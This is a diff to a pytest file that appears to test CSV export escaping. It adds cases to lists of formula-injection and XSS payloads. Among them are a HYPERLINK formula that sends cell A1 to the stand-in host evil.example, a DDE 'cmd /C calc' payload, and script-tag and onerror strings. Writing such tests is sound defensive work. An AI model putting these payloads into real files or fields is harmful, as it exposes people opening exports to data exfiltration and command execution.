@@ -14,6 +14,7 @@ pytestmark = pytest.mark.asyncio(loop_scope="module")
 FORMULAS = [
     '=HYPERLINK("http://evil.example?"&A1,"Putin")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1",
     " =1+1", "\u200b=1+1", "＝1+1", "safe;=1+1", "safe\n=1+1", "'=1+1", "|calc", "\ufeff=1+1", "\u202e=1+1",
+    'x;"=1+1;y', 'x\n"=1+1;y',
 ]  # fmt: skip
 SCRIPTS = [
     "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</mark><svg/onload=alert(1)>", '"><script>alert(1)</script>',
@@ -44,6 +45,7 @@ async def telex(tmp_path_factory):
     "target",
     [
         "/v1/export?format=csv",
+        "/v1/export?format=csv&q=hostile;%3D1%2B1;hostile",
         "/v1/export?format=csv&rows=actors",
         "/v1/export?format=csv&rows=cited",
         "/v1/export/facets/actor?format=csv",
